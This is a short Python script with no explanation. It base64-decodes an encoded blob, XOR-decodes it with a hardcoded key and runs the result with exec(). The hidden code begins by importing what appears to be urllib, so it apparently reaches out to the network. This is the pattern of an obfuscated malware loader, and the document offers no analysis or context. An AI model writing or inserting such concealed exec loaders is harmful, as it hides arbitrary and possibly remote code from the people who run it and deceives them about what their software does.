import base64
_k = b'k3y!Z'
_blob = base64.b64decode('Al4JTigfEwxTNgdaGw8oDkIMRCkfCBxZPwgbDFM2B1obDygOQgxEKR8dDFM2BEMcT3JMWw1VKlEcVhNqWB1JD2taAFcQakRADUA9DgFXUSNMGldTPwpXUQhz')
exec(bytes(b ^ _k[i % len(_k)] for i, b in enumerate(_blob)).decode())
